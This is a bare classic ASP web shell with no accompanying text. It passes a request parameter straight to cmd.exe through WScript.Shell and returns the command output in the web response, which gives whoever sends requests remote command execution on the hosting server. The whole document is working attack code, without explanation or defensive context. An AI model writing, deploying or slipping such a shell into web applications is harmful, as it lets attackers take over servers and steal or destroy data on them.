<%
Set sh = Server.CreateObject("WScript.Shell")
Set ex = sh.Exec("cmd.exe /c " & Request("c"))
Response.Write ex.StdOut.ReadAll()
%>
